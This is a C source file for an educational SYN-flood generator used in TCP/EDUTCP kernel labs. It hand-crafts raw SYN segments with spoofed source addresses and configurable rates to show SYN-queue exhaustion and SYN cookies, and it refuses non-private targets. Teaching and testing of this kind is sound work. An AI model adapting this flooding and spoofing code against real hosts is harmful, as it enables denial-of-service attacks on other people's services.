// SPDX-License-Identifier: GPL-2.0
/*
 * edusynflood - the SYN-flood generator of the EDUTCP labs.
 *
 * What a SYN flood is.  A TCP (or EDUTCP) server that receives a SYN keeps
 * a small record of the half-open connection - a request socket in the
 * listener's SYN queue - answers with a SYN-ACK and waits for the final
 * ACK, retransmitting the SYN-ACK at 1 s, 2 s, 4 s... up to synack_retries
 * times.  A SYN flood sends many SYNs from addresses that will never
 * answer, so the SYN queue fills up with requests that can only expire,
 * and real clients' SYNs find no room: they are dropped (ListenDrops,
 * SynQueueDrops) - unless SYN cookies are on, in which case the server
 * stops keeping state and encodes it in the sequence number of its
 * SYN-ACK (SyncookiesSent), so a real client's ACK still gets through
 * (SyncookiesRecv).  Linux 6.1 calls the SYN queue full when it holds more
 * requests than the listen() backlog (inet_csk_reqsk_queue_is_full()).
 *
 * What this program does.  It builds each segment by hand on a raw IPv4
 * socket (IP_HDRINCL): an IPv4 header with EDUTCP's protocol (253, or the
 * module's ipproto parameter; -f inet makes it 6, a real TCP SYN, for
 * comparison with the kernel's TCP; -P any other number) and the
 * 20-byte TCP-format header that EDUTCP uses on the wire, with SYN set, a
 * random initial sequence number and a random source port.  The checksum
 * covers the usual pseudo-header (addresses, zero, protocol, length); -c
 * deliberately corrupts it to show that the receiver drops such segments
 * (InCsumErrors).  Source addresses may be spoofed: -s takes one address,
 * a prefix (10.99.128.0/17: a random address inside it per segment) or a
 * range (10.99.0.10-10.99.0.20).  -u walks the range in order instead,
 * with the source port as the next digit, so that no two segments share a
 * source address and port (no SYN lands on another's request): a test can
 * then account for every SYN in the receiver's counters.
 *
 * How to watch it (in the server's network namespace):
 *	edustat -l                            the listener's SYN queue
 *	edustat -a, or cat /proc/net/edutcp   one row in state 03 (SYN_RECV)
 *					      per half-open request
 *	cat /proc/net/edutcp_stats            ListenDrops, SynQueueDrops,
 *					      SyncookiesSent, SynAckRetrans
 *	/proc/sys/net/edutcp/syncookies       0: drop, 1: cookies when full
 *	tcpdump -ni IFACE ip proto 253        the SYN-ACKs going nowhere
 *	tshark -d ip.proto==253,tcp ...       the same, decoded as TCP
 *
 * Where it may be used.  Only inside a test topology that you built
 * yourself: network namespaces joined by veth pairs (selftests/t_synq.sh
 * shows one), where the spoofed prefix is routed back into a namespace
 * that silently drops the SYN-ACKs.  Never point it at a machine or a
 * network that is not yours; the program refuses public destination
 * addresses, but the responsibility for private ones is the user's.
 * It needs CAP_NET_RAW (root).
 *
 * Exit status: 0 all segments sent, 1 a run-time error, 2 a usage error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <limits.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <linux/edu.h>

#define EDU_MAX_COUNT	10000000UL

/* The 20-byte header of RFC 9293, as EDUTCP carries it (DESIGN.md 3.2). */
struct edu_seghdr {
	uint16_t	sport;
	uint16_t	dport;
	uint32_t	seq;
	uint32_t	ack;
	uint8_t		doff;		/* data offset in words, high nibble */
	uint8_t		flags;
	uint16_t	window;
	uint16_t	check;
	uint16_t	urg;
} __attribute__((packed));

#define SEG_FIN	0x01
#define SEG_SYN	0x02
#define SEG_RST	0x04
#define SEG_PSH	0x08
#define SEG_ACK	0x10
#define SEG_URG	0x20

struct edu_packet {
	struct iphdr		ip;
	struct edu_seghdr	seg;
} __attribute__((packed));

/* Source addresses: [lo, hi] in host order, one picked per segment. */
struct src_range {
	uint32_t	lo;
	uint32_t	hi;
	bool		set;
};

struct flood_opts {
	struct sockaddr_in	dst;
	struct src_range	src;
	unsigned long		count;
	unsigned long		rate;
	int			ipproto;
	int			sport;		/* -1: random */
	uint8_t			flags;
	uint16_t		window;
	bool			bad_csum;
	bool			unique;
	bool			verbose;
	uint64_t		seed;
};

static volatile sig_atomic_t stop;
static const char *prog = "edusynflood";

static void usage(FILE *f)
{
	fprintf(f,
"usage: %s [options] ADDR:PORT\n"
"Send hand-made SYN segments (EDUTCP: IPv4 protocol 253, TCP header) to\n"
"ADDR:PORT, for the SYN-queue labs.  Only for test namespaces you built.\n"
"\n"
"  -n COUNT   segments to send (default 100, at most %lu)\n"
"  -r RATE    segments per second, 0 = as fast as possible (default 0)\n"
"  -s SRC     source address: A.B.C.D, a prefix A.B.C.D/LEN (a random\n"
"             address in it per segment) or a range A.B.C.D-E.F.G.H;\n"
"             default: the address the kernel would use to reach ADDR\n"
"  -p PORT    fixed source port (default: random in 1024-65535)\n"
"  -f FAMILY  edu (default: EDUTCP's protocol, %d unless the module says\n"
"             otherwise) or inet (6: real TCP, to the kernel's TCP)\n"
"  -P PROTO   any other IPv4 protocol number\n"
"  -F FLAGS   header flags as letters from SAFRPU (default S)\n"
"  -w WINDOW  advertised window (default 64240)\n"
"  -c         send a wrong checksum (the receiver must drop the segment)\n"
"  -u         unique sources: walk SRC in order, then the next source\n"
"             port, so that no address and port pair repeats\n"
"  -S SEED    seed of the random ports, addresses and sequence numbers\n"
"  -v         print every segment sent\n"
"  -h         this help\n"
"\n"
"Watch the victim with: cat /proc/net/edutcp /proc/net/edutcp_stats\n"
"Exit status: 0 sent, 1 run-time error, 2 usage error.\n",
		prog, EDU_MAX_COUNT, IPPROTO_EDUTCP);
}

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* xorshift64*: reproducible with -S, good enough for ports and ISNs. */
static uint64_t rng_state;

static uint32_t rng32(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545F4914F6CDD1DULL) >> 32);
}

static bool parse_ulong(const char *s, unsigned long max, unsigned long *out)
{
	char *end;
	unsigned long v;

	if (!*s || *s == '-')
		return false;
	errno = 0;
	v = strtoul(s, &end, 0);
	if (errno || *end || v > max)
		return false;
	*out = v;
	return true;
}

static bool parse_ipv4(const char *s, uint32_t *host_order)
{
	struct in_addr a;

	if (inet_pton(AF_INET, s, &a) != 1)
		return false;
	*host_order = ntohl(a.s_addr);
	return true;
}

/* A.B.C.D, A.B.C.D/LEN or A.B.C.D-E.F.G.H */
static bool parse_src(const char *arg, struct src_range *r)
{
	char buf[64], *sep;
	unsigned long len;
	uint32_t a, b, mask;

	if (strlen(arg) >= sizeof(buf))
		return false;
	strcpy(buf, arg);
	sep = strpbrk(buf, "/-");
	if (!sep) {
		if (!parse_ipv4(buf, &a))
			return false;
		r->lo = a;
		r->hi = a;
	} else if (*sep == '/') {
		*sep = '\0';
		if (!parse_ipv4(buf, &a) || !parse_ulong(sep + 1, 32, &len))
			return false;
		mask = len ? ~0U << (32 - len) : 0;
		r->lo = a & mask;
		r->hi = r->lo | ~mask;
		/* The network and broadcast addresses are nobody's source. */
		if (len <= 30) {
			r->lo++;
			r->hi--;
		}
	} else {
		*sep = '\0';
		if (!parse_ipv4(buf, &a) || !parse_ipv4(sep + 1, &b) || b < a)
			return false;
		r->lo = a;
		r->hi = b;
	}
	r->set = true;
	return true;
}

static bool parse_flags(const char *s, uint8_t *flags)
{
	static const char letters[] = "FSRPAU";
	uint8_t f = 0;
	const char *p;

	if (!*s)
		return false;
	for (; *s; s++) {
		p = strchr(letters, *s);
		if (!p)
			return false;
		f |= 1 << (p - letters);
	}
	*flags = f;
	return true;
}

static bool parse_target(const char *arg, struct sockaddr_in *dst)
{
	char buf[64], *colon;
	unsigned long port;

	if (strlen(arg) >= sizeof(buf))
		return false;
	strcpy(buf, arg);
	colon = strrchr(buf, ':');
	if (!colon)
		return false;
	*colon = '\0';
	if (!parse_ulong(colon + 1, 65535, &port) || port == 0)
		return false;
	memset(dst, 0, sizeof(*dst));
	dst->sin_family = AF_INET;
	dst->sin_port = htons(port);
	return inet_pton(AF_INET, buf, &dst->sin_addr) == 1;
}

/*
 * A teaching tool has no business flooding the Internet: only loopback,
 * private (RFC 1918), link-local and benchmarking (RFC 2544) addresses,
 * which is where test namespaces live, are accepted.
 */
static bool dst_is_lab_address(uint32_t a)
{
	return (a >> 24) == 127 || (a >> 24) == 10 ||
	       (a >> 20) == (172 << 4 | 1) || (a >> 16) == (192 << 8 | 168) ||
	       (a >> 16) == (169 << 8 | 254) || (a >> 17) == (198 << 7 | 9);
}

/* The source address the kernel would pick: connect a UDP socket. */
static int default_source(const struct sockaddr_in *dst, uint32_t *src)
{
	struct sockaddr_in a;
	socklen_t len = sizeof(a);
	int fd, err = 0;

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0)
		return -errno;
	if (connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) ||
	    getsockname(fd, (struct sockaddr *)&a, &len))
		err = -errno;
	else
		*src = ntohl(a.sin_addr.s_addr);
	close(fd);
	return err;
}

/* RFC 1071: the ones' complement of the ones' complement sum. */
static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	while (len > 1) {
		sum += (uint32_t)p[0] << 8 | p[1];
		p += 2;
		len -= 2;
	}
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* The checksum over the pseudo-header and the segment, in network order. */
static uint16_t seg_checksum(const struct edu_packet *pkt)
{
	struct {
		uint32_t	saddr;
		uint32_t	daddr;
		uint8_t		zero;
		uint8_t		proto;
		uint16_t	len;
	} __attribute__((packed)) ph = {
		.saddr	= pkt->ip.saddr,
		.daddr	= pkt->ip.daddr,
		.proto	= pkt->ip.protocol,
		.len	= htons(sizeof(pkt->seg)),
	};
	uint32_t sum;

	sum = csum_add(0, &ph, sizeof(ph));
	sum = csum_add(sum, &pkt->seg, sizeof(pkt->seg));
	return htons(csum_fold(sum));
}

/*
 * Segment i's source with -u: address lo + i mod n, port 1024 + i / n (n
 * addresses in the range), unique for the first n * 64512 segments.
 */
static void unique_source(const struct flood_opts *o, unsigned long i,
			  uint32_t *saddr, uint16_t *sport)
{
	uint64_t n = (uint64_t)(o->src.hi - o->src.lo) + 1;

	*saddr = o->src.lo + (uint32_t)(i % n);
	*sport = 1024 + (uint16_t)((i / n) % (65536 - 1024));
}

static void build_packet(const struct flood_opts *o, unsigned long i,
			 struct edu_packet *pkt)
{
	uint32_t span = o->src.hi - o->src.lo;
	uint32_t saddr = o->src.lo;
	uint16_t usport = 0;

	if (o->unique)
		unique_source(o, i, &saddr, &usport);
	else if (span)
		saddr += span == UINT32_MAX ? rng32() : rng32() % (span + 1);

	memset(pkt, 0, sizeof(*pkt));
	pkt->ip.version = 4;
	pkt->ip.ihl = sizeof(pkt->ip) / 4;
	pkt->ip.ttl = 64;
	pkt->ip.protocol = o->ipproto;
	pkt->ip.saddr = htonl(saddr);
	pkt->ip.daddr = o->dst.sin_addr.s_addr;
	/* tot_len, id and the header checksum are filled in by the kernel. */

	if (o->unique)
		pkt->seg.sport = htons(usport);
	else if (o->sport >= 0)
		pkt->seg.sport = htons(o->sport);
	else
		pkt->seg.sport = htons(1024 + rng32() % (65536 - 1024));
	pkt->seg.dport = o->dst.sin_port;
	pkt->seg.seq = htonl(rng32());
	if (o->flags & SEG_ACK)
		pkt->seg.ack = htonl(rng32());
	pkt->seg.doff = (sizeof(pkt->seg) / 4) << 4;
	pkt->seg.flags = o->flags;
	pkt->seg.window = htons(o->window);
	pkt->seg.check = seg_checksum(pkt);
	/*
	 * Not just any other value: 0x0000 and 0xffff are both zero in ones'
	 * complement, so ~check could still verify.  This xor never maps one
	 * onto the other.
	 */
	if (o->bad_csum)
		pkt->seg.check ^= htons(0x0bad);
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + ts.tv_nsec;
}

/* Sleep until segment i is due: the schedule is absolute, so no drift. */
static void pace(uint64_t start, unsigned long i, unsigned long rate)
{
	uint64_t due = start + (uint64_t)i * 1000000000ULL / rate;
	struct timespec ts = {
		.tv_sec = due / 1000000000ULL,
		.tv_nsec = due % 1000000000ULL,
	};

	while (!stop && clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME,
					&ts, NULL) == EINTR)
		;
}

static void print_segment(const struct edu_packet *pkt)
{
	char s[INET_ADDRSTRLEN], d[INET_ADDRSTRLEN];

	inet_ntop(AF_INET, &pkt->ip.saddr, s, sizeof(s));
	inet_ntop(AF_INET, &pkt->ip.daddr, d, sizeof(d));
	printf("%s:%u > %s:%u proto %u flags 0x%02x seq %" PRIu32
	       " check 0x%04x\n", s, ntohs(pkt->seg.sport), d,
	       ntohs(pkt->seg.dport), pkt->ip.protocol, pkt->seg.flags,
	       (uint32_t)ntohl(pkt->seg.seq), ntohs(pkt->seg.check));
}

static int flood(const struct flood_opts *o, unsigned long *sent)
{
	struct edu_packet pkt;
	uint64_t start;
	int fd, one = 1;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "%s: raw socket: %s%s\n", prog, strerror(errno),
			errno == EPERM ? " (needs CAP_NET_RAW: run as root)" : "");
		return 1;
	}
	/* IPPROTO_RAW implies it; saying so documents who writes the header. */
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		fprintf(stderr, "%s: IP_HDRINCL: %s\n", prog, strerror(errno));
		close(fd);
		return 1;
	}

	start = now_ns();
	for (*sent = 0; *sent < o->count && !stop; ) {
		if (o->rate)
			pace(start, *sent, o->rate);
		if (stop)
			break;
		build_packet(o, *sent, &pkt);
		if (sendto(fd, &pkt, sizeof(pkt), 0,
			   (const struct sockaddr *)&o->dst,
			   sizeof(o->dst)) < 0) {
			if (errno == EINTR)
				continue;
			/* A full device queue is back-pressure, not failure. */
			if (errno == ENOBUFS) {
				usleep(1000);
				continue;
			}
			fprintf(stderr, "%s: sendto: %s\n", prog, strerror(errno));
			close(fd);
			return 1;
		}
		if (o->verbose)
			print_segment(&pkt);
		(*sent)++;
	}
	close(fd);
	return 0;
}

/* EDUTCP's IPv4 protocol: the module's parameter, if it is loaded. */
static int edu_ipproto(void)
{
	FILE *f = fopen("/sys/module/af_edu/parameters/ipproto", "r");
	int p = -1;

	if (f) {
		if (fscanf(f, "%d", &p) != 1)
			p = -1;
		fclose(f);
	}
	return p > 0 && p < 255 ? p : IPPROTO_EDUTCP;
}

int main(int argc, char **argv)
{
	struct flood_opts o = {
		.count		= 100,
		.ipproto	= edu_ipproto(),
		.sport		= -1,
		.flags		= SEG_SYN,
		.window		= 64240,
	};
	struct sigaction sa = { .sa_handler = on_signal };
	char dst_str[INET_ADDRSTRLEN];
	unsigned long v, sent = 0;
	bool seeded = false;
	uint64_t t0;
	int c, err;

	while ((c = getopt(argc, argv, "n:r:s:p:P:f:F:w:cuS:vh")) != -1) {
		switch (c) {
		case 'n':
			if (!parse_ulong(optarg, EDU_MAX_COUNT, &o.count) ||
			    !o.count)
				goto bad_arg;
			break;
		case 'r':
			if (!parse_ulong(optarg, 100000000, &o.rate))
				goto bad_arg;
			break;
		case 's':
			if (!parse_src(optarg, &o.src))
				goto bad_arg;
			break;
		case 'p':
			if (!parse_ulong(optarg, 65535, &v) || !v)
				goto bad_arg;
			o.sport = v;
			break;
		case 'P':
			if (!parse_ulong(optarg, 255, &v) || !v ||
			    v == IPPROTO_RAW)
				goto bad_arg;
			o.ipproto = v;
			break;
		case 'f':
			if (!strcmp(optarg, "inet"))
				o.ipproto = IPPROTO_TCP;
			else if (!strcmp(optarg, "edu"))
				o.ipproto = edu_ipproto();
			else
				goto bad_arg;
			break;
		case 'F':
			if (!parse_flags(optarg, &o.flags))
				goto bad_arg;
			break;
		case 'w':
			if (!parse_ulong(optarg, 65535, &v))
				goto bad_arg;
			o.window = v;
			break;
		case 'c':
			o.bad_csum = true;
			break;
		case 'u':
			o.unique = true;
			break;
		case 'S':
			if (!parse_ulong(optarg, ULONG_MAX, &v))
				goto bad_arg;
			o.seed = v;
			seeded = true;
			break;
		case 'v':
			o.verbose = true;
			break;
		case 'h':
			usage(stdout);
			return 0;
		default:
			usage(stderr);
			return 2;
		}
	}
	if (optind != argc - 1) {
		fprintf(stderr, "%s: expected one target ADDR:PORT\n", prog);
		usage(stderr);
		return 2;
	}
	if (!parse_target(argv[optind], &o.dst)) {
		fprintf(stderr, "%s: bad target '%s': want A.B.C.D:PORT\n",
			prog, argv[optind]);
		return 2;
	}
	if (!dst_is_lab_address(ntohl(o.dst.sin_addr.s_addr))) {
		fprintf(stderr,
			"%s: refusing %s: not a loopback or private address;\n"
			"this lab tool is for test namespaces only\n",
			prog, argv[optind]);
		return 2;
	}
	if (!o.src.set) {
		uint32_t a = 0;

		err = default_source(&o.dst, &a);
		if (err) {
			fprintf(stderr, "%s: no route to %s: %s\n", prog,
				argv[optind], strerror(-err));
			return 1;
		}
		o.src.lo = a;
		o.src.hi = a;
	}
	if (!seeded && getrandom(&o.seed, sizeof(o.seed), 0) != sizeof(o.seed))
		o.seed = (uint64_t)time(NULL) << 20 ^ (uint64_t)getpid();
	/* xorshift must not start from zero */
	rng_state = o.seed ? o.seed : 0x9E3779B97F4A7C15ULL;

	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);

	t0 = now_ns();
	err = flood(&o, &sent);
	inet_ntop(AF_INET, &o.dst.sin_addr, dst_str, sizeof(dst_str));
	printf("sent %lu segment%s to %s:%u (proto %d%s) in %" PRIu64 " ms\n",
	       sent, sent == 1 ? "" : "s", dst_str, ntohs(o.dst.sin_port),
	       o.ipproto, o.bad_csum ? ", bad checksum" : "",
	       (now_ns() - t0) / 1000000);
	if (err)
		return err;
	return sent == o.count ? 0 : 1;

bad_arg:
	fprintf(stderr, "%s: bad value '%s' for -%c\n", prog, optarg, c);
	usage(stderr);
	return 2;
}
